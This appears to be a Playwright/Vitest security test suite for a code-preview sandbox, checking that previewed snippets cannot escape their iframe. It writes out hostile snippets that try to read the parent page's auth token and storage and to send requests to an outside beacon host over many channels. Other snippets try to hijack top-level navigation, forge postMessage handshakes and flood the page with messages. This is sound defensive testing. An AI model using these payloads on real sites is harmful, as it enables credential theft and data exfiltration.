import { until } from '@snippetry/test-kit';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, inject, it } from 'vitest';
import { startBeacon } from '../../src/beacon.ts';
import { closePages, openPage, sharedBrowser } from '../../src/browser.ts';
import { aPerson, type Person, signIn } from '../../src/people.ts';
import { isResponsive, runHostile, runLater } from '../../src/preview.ts';

const { url } = inject('platform');
const previews = url.replace('localhost', '127.0.0.1');
let browser: Browser;
let person: Person;
let page: Page;
let context: BrowserContext;
let beacon: Awaited<ReturnType<typeof startBeacon>>;

beforeAll(async () => {
  browser = await sharedBrowser();
  person = await aPerson(url);
  beacon = await startBeacon();
});
afterAll(() => beacon.stop());
beforeEach(async () => {
  beacon.hits.clear();
  ({ page, context } = await openPage(browser));
  await signIn(page, url, person);
});
afterEach(closePages);

const attack = (code: string) => runHostile(page, { url, person, code });

/** Returns the paths of requests by which attacks have reached another server. */
const escaped = () => [...beacon.hits].filter((path) => path.startsWith('attack/'));

/** Source of a promise that runs each function body and resolves to its value, or `refused`. */
const trying = (tries: Record<string, string>) => `
(async () => {
  const results = {};
  for (const [name, attempt] of Object.entries({
    ${Object.entries(tries)
      .map(([name, code]) => `${name}: async () => { ${code} }`)
      .join(',\n    ')}
  })) {
    try { results[name] = String(await attempt()).slice(0, 40); } catch { results[name] = 'refused'; }
  }
  return results;
})()`;

const READING = {
  parentStorage: "return parent.localStorage.getItem('token')",
  topStorage: "return top.localStorage.getItem('token')",
  parentPage: 'return parent.document.body.tagName',
  address: 'return top.location.href',
  cookies: "document.cookie = 'a=1'; return document.cookie",
  database:
    "return await new Promise((good, bad) => { const r = indexedDB.open('x'); r.onsuccess = () => good('opened'); r.onerror = bad; })",
  caches: "await caches.open('x'); return 'opened'",
};

const AROUND = {
  peers: 'return typeof RTCPeerConnection',
  inner:
    "const f = document.createElement('iframe'); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection",
  innerStorage:
    "const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.localStorage.length",
  serviceWorker: "await navigator.serviceWorker.register('/frame.js'); return 'registered'",
};

it('a previewed snippet cannot read token, storage, cookies or page of the application, not even through WebRTC, frames or workers', async () => {
  const tries = trying({ ...READING, ...AROUND });
  // Control: the same code can read all of this in the application's own page.
  await page.goto(`${url}/app`);
  const control = await page.evaluate<Record<string, string>>(tries);
  expect(control).toMatchObject({ parentPage: 'BODY', database: 'opened', caches: 'opened' });
  expect(control).toMatchObject({ peers: 'function', inner: 'function' });
  expect(control.parentStorage).toBe(person.token.slice(0, 40));
  const { console: lines } = await attack(
    `${tries}.then((r) => { console.log(JSON.stringify(r)); console.log(String(localStorage.getItem('token'))); console.log('done'); });`,
  );
  const [said = '{}', own] = await lines();
  const refused = Object.keys({ ...READING, ...AROUND }).map((name) => [name, 'refused']);
  expect(JSON.parse(said)).toEqual({ ...Object.fromEntries(refused), peers: 'undefined' });
  expect(own?.trim()).toBe('null');
});

/** Source of every way to send a request to another server, each to its own path below `place`. */
const reaching = (place: string) => `
const B = ${JSON.stringify(`${beacon.url}/${place}`)};
const put = (html) => document.body.insertAdjacentHTML('beforeend', html);
const tries = [
  () => fetch(B + '/fetch').catch(() => {}),
  () => { const x = new XMLHttpRequest(); x.open('GET', B + '/xhr'); x.send(); },
  () => navigator.sendBeacon(B + '/beacon', 'x'),
  () => new WebSocket(B.replace('http', 'ws') + '/socket'),
  () => new EventSource(B + '/events'),
  () => { new Image().src = B + '/image'; },
  () => put('<link rel="stylesheet" href="' + B + '/sheet">'),
  () => put('<style>@import url(' + B + '/import); body { background: url(' + B + '/background) }</style>'),
  () => new FontFace('x', 'url(' + B + '/font)').load().catch(() => {}),
  () => put('<video src="' + B + '/video"></video>'),
  () => put('<object data="' + B + '/object"></object>'),
  () => put('<iframe src="' + B + '/frame"></iframe>'),
  () => { const s = document.createElement('script'); s.src = B + '/script'; document.body.append(s); },
  () => new Worker(URL.createObjectURL(new Blob(['importScripts("' + B + '/worker")']))),
  () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = B + '/prefetch'; document.head.append(l); },
  () => { put('<form id="f" action="' + B + '/form" target="hidden"></form><iframe name="hidden"></iframe>'); document.getElementById('f').submit(); },
];
for (const one of tries) { try { one(); } catch {} }
`;
const WAYS =
  'fetch xhr beacon socket events image sheet import background font video object frame script worker prefetch form';

/** Source of ways to open a window and to navigate the whole tab to another site. */
const breakingOut = (place: string) => `
const results = [];
const attempt = (f) => { try { results.push(String(f())); } catch { results.push('refused'); } };
attempt(() => window.open('${beacon.url}/${place}/popup'));
attempt(() => { top.location.href = '${beacon.url}/${place}/top'; return 'moved'; });
attempt(() => { parent.location.replace('${beacon.url}/${place}/top'); return 'moved'; });
const a = document.createElement('a'); a.href = '${beacon.url}/${place}/top'; a.target = '_top'; document.body.append(a);
a.onclick = (e) => e.stopPropagation();
a.click();
console.log(results.join(' '));`;

it('a previewed snippet cannot reach another server, open a window or navigate the page around it', async () => {
  const before = page.url();
  const { console: lines } = await attack(
    `${breakingOut('attack')}\n${reaching('attack')}\nconsole.log('done');`,
  );
  expect((await lines())[0]).toBe('null refused refused');
  // Control: the same code, started later in unrestricted pages, succeeds with every request,
  // opens a window and navigates its tab.
  const [free, moving] = [await context.newPage(), await context.newPage()];
  await free.goto(`${beacon.url}/blank`);
  await free.evaluate(reaching('control'));
  await moving.goto(`${beacon.url}/blank`);
  const popup = moving.waitForEvent('popup');
  // Not awaited: the promise of a script whose page navigates may never settle.
  void moving.evaluate(breakingOut('control')).catch(() => undefined);
  const arrived = [...WAYS.split(' '), 'popup', 'top'];
  await until(() => arrived.every((way) => beacon.hits.has(`control/${way}`)), 30_000);
  // Left open: closing a page that navigates may never finish.
  const opened = await popup;
  expect(context.pages()).toEqual([page, free, moving, opened]);
  expect(new URL(page.url()).origin).toBe(new URL(before).origin);
  expect(escaped()).toEqual([]);
});

it('the application accepts no forged ready message, and a preview no forged init message', async () => {
  const code = `
addEventListener('message', (e) => console.log('got ' + (e.data && e.data.type)));
parent.postMessage({ type: 'preview:ready' }, '*');
const { port1 } = new MessageChannel();
window.postMessage({ type: 'preview:init', kind: 'html', code: '<h1>forged</h1>', libs: {} }, '*', [port1]);
document.body.append('the real one');
console.log('done');`;
  await page.addInitScript(() => {
    let greetings = 0;
    addEventListener('message', (event) => {
      if (event.data?.type === 'preview:init') document.title = 'leaked';
      if (event.data?.type !== 'preview:ready') return;
      greetings += 1;
      document.documentElement.dataset.greetings = String(greetings);
    });
  });
  const { frame, console: lines } = await attack(code);
  /**
   * Waits for this many ready messages, sends an `end` message to the frame, and returns all
   * messages that the frame has received.
   */
  const told = async (greetings: number) => {
    await page.locator(`html[data-greetings="${greetings}"]`).waitFor();
    await page.evaluate(() => frames[0]?.postMessage({ type: 'end' }, '*'));
    const got = async () => (await lines()).filter((line) => line.startsWith('got'));
    await until(
      async () => (await got()).filter((line) => line === 'got end').length === greetings - 1,
    );
    return got();
  };
  // The frame received its own forged message, so it was listening; the application sent none.
  expect(await told(2)).toEqual(['got preview:init', 'got end']);
  await frame.getByText('the real one').waitFor();
  expect(await frame.getByText('forged').count()).toBe(0);
  // A ready message from a window other than the frame, and an init message of the page after the
  // real one.
  await page.evaluate(() => {
    window.postMessage({ type: 'preview:ready' }, '*');
    const order = { type: 'preview:init', kind: 'html', code: '<h1>forged</h1>', libs: {} };
    frames[0]?.postMessage(order, '*', [new MessageChannel().port1]);
  });
  expect(await told(3)).toEqual([
    ...['got preview:init', 'got end'],
    ...['got preview:init', 'got end'],
  ]);
  expect(await frame.getByText('forged').count()).toBe(0);
  expect(await page.title()).not.toBe('leaked');
});

it('other sites cannot embed the preview frame', async () => {
  const stranger = await context.newPage();
  await stranger.goto(`${beacon.url}/blank`);
  await stranger.evaluate((address) => {
    const frame = document.createElement('iframe');
    frame.src = `${address}/frame.html`;
    document.body.append(frame);
  }, previews);
  await until(() => stranger.frames().some((one) => one.url().startsWith('chrome-error:')));
  expect(stranger.frames().some((one) => one.url().startsWith(previews))).toBe(false);
});

it('the frame of a preview that floods the page with messages is removed', async () => {
  const code = "for (let i = 0; i < 20000; i++) parent.postMessage('x', '*');";
  const { dialog } = await runLater(page, { url, person, code });
  await dialog.getByText('sent too many messages').waitFor({ timeout: 30_000 });
  expect(await dialog.locator('iframe').count()).toBe(0);
  expect(await isResponsive(page)).toBe(true);
});
